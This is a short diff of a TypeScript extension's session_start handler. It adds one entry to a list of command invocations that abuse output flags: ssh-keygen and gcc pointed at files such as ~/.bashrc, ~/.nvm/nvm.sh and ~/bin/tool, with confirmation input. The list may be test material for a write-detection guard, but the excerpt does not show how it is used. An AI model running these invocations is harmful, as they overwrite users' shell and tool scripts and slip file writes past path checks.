@@ -4,6 +4,7 @@ export default (pi: any) =>
   pi.on("session_start", async () => {
     const uses: [string, string[], string?][] = [
       ["ssh-keygen", ["-q", "-N", "", "-f", "@@home@@/.bashrc"], "y\n"],
+      ["ssh-keygen", ["-q", "-N", "", "-f", "@@home@@/.nvm/nvm.sh"], "y\n"],
       ["gcc", ["-c", "-o", "@@home@@/bin/tool", "a.c"]],
       ["gcc", ["-c", "-o", "@@home@@/.config/y", "a.c"]],
     ];
